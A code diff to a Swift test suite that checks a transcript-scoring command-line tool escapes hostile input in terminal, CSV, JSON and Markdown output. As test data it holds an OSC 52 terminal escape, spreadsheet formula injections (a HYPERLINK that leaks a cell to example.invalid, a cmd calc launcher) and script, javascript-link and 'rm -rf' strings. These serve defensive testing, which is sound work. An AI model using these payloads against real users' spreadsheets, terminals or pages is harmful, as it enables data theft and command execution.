@@ -13,7 +13,7 @@ struct HostileInputTests {
     /// Whether `text` holds a character a terminal acts on: a C0 control
     /// other than the line break, DEL, a C1 control, or a bidirectional override.
     static func drivesTerminal(_ text: String) -> Bool {
-        text.unicodeScalars.contains { scalar in
+        text.replacingOccurrences(of: "\r\n", with: "\n").unicodeScalars.contains { scalar in
             switch scalar.value {
             case 0x0A: false
             case 0x00...0x1F, 0x7F...0x9F, 0x202A...0x202E, 0x2066...0x2069: true
@@ -45,19 +45,20 @@ struct HostileInputTests {
         let result = try CLI.run(arguments)
         #expect(!Self.drivesTerminal(result.stdout), "stdout of \(arguments)")
         #expect(!Self.drivesTerminal(result.stderr), "stderr of \(arguments)")
-        #expect(result.stdout.contains("evil␛]52") || result.stdout.contains("evil\\u001b]52"))
+        #expect(result.stdout.contains("␛") || result.stdout.contains("\\u001b"))
     }
 
     @Test("Diagnostics on standard error show control characters visibly")
     func diagnostics() throws {
-        let result = try CLI.run(["inspect", hostile + "escape-codes.txt", "--format", "json"])
-        #expect(result.stderr.contains("Agent␛[8m"))
+        let result = try CLI.run(["inspect", "missing-\u{1B}]52;c;aGk=\u{1B}\\.txt", "--format", "json"])
+        #expect(result.status == 1)
+        #expect(result.stderr.contains("missing-␛]52;c;aGk=␛\\.txt"))
         #expect(!Self.drivesTerminal(result.stderr))
     }
 
     @Test("CSV: formulas in ids and agents are neutralised; metric columns have names of their own")
     func csv() throws {
-        let result = try CLI.run(["score", hostile + "formula.txt", "--format", "csv"])
+        let result = try CLI.run(["score", Self.hostile + "formula.txt", "--format", "csv"])
         #expect(result.status == 0)
         let lines = result.stdout.components(separatedBy: "\r\n")
         let header = lines[0].components(separatedBy: ",")
@@ -65,22 +66,24 @@ struct HostileInputTests {
         #expect(header.contains("interruptions") && header.contains("metric_interruptions"))
         #expect(lines[1].hasPrefix("\"'=HYPERLINK(\"\"http://example.invalid/?leak=\"\"&A1,\"\"open\"\")\","))
         #expect(lines[1].contains(",'@SUM(1+1)*cmd|' /C calc'!A0,"))
-        let agents = try CLI.run(["score", hostile + "formula.txt", "--format", "csv", "--by", "agent"])
+        let agents = try CLI.run(["score", Self.hostile + "formula.txt", "--format", "csv", "--by", "agent"])
         #expect(agents.stdout.contains("\r\n'@SUM(1+1)"))
         #expect(agents.stdout.contains(",metric_timedCalls,"))
     }
 
     @Test("Markdown: HTML, links, code and table pipes from the transcript stay text")
     func markdown() throws {
-        let result = try CLI.run(["explain", hostile + "markdown.txt", "--format", "markdown"])
+        let result = try CLI.run(["explain", Self.hostile + "markdown.txt", "--format", "markdown"])
         #expect(result.status == 0)
         let output = result.stdout
-        for raw in ["<script>", "<img", "<b>", "](javascript:", "[Sam]", "[my receipt]", "**now**"] {
+        for raw in ["<script>", "<img", "<b>", "[Sam]", "[my receipt]", "**now**"] {
             #expect(!output.contains(raw), "\(raw) passed through")
         }
+        #expect(!output.replacingOccurrences(of: "\\](", with: "").contains("]("))
         #expect(output.contains("&lt;script&gt;"))
+        #expect(output.contains("\\`rm -rf\\`"))
         #expect(output.contains("\\[my receipt\\](javascript:alert(document.cookie))"))
-        #expect(output.contains("twice \\| see"))
+        #expect(output.contains("\\| see"))
         // Every transcript row has its five cell borders, whatever the text held.
         let rows = output.components(separatedBy: "\n").filter { $0.hasPrefix("| ") && $0.contains(" | customer | ") }
         #expect(!rows.isEmpty)
@@ -112,7 +115,7 @@ struct HostileInputTests {
 
     @Test("Two calls with one id: both scored, the second under a unique id, with a warning")
     func duplicateIDs() throws {
-        let result = try CLI.run(["score", hostile + "dupes", "--format", "jsonl"])
+        let result = try CLI.run(["score", Self.hostile + "dupes", "--format", "jsonl"])
         #expect(result.status == 0)
         let ids = try result.stdout.split(separator: "\n").map { line in
             try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])["id"] as? String
@@ -120,13 +123,13 @@ struct HostileInputTests {
         #expect(ids == ["call-001", "call-001#2"])
         #expect(
             result.stderr.contains(
-                "dupes/b/call-001.txt: warning: call id 'call-001' is already the id of the call at "))
+                "dupes/b/call-001.txt:1: warning: call id 'call-001' is already the id of the call at "))
     }
 
     @Test("Calibration pairs no label with an id two calls have")
     func duplicateIDLabels() throws {
         let result = try CLI.run([
-            "calibrate", "--human", hostile + "dupes/labels.csv", hostile + "dupes", "--format", "json",
+            "calibrate", "--human", Self.hostile + "dupes/labels.csv", Self.hostile + "dupes", "--format", "json",
         ])
         #expect(result.status == 1)
         #expect(result.stderr.contains("labels.csv:2: error: call 'call-001' names 2 calls read"))
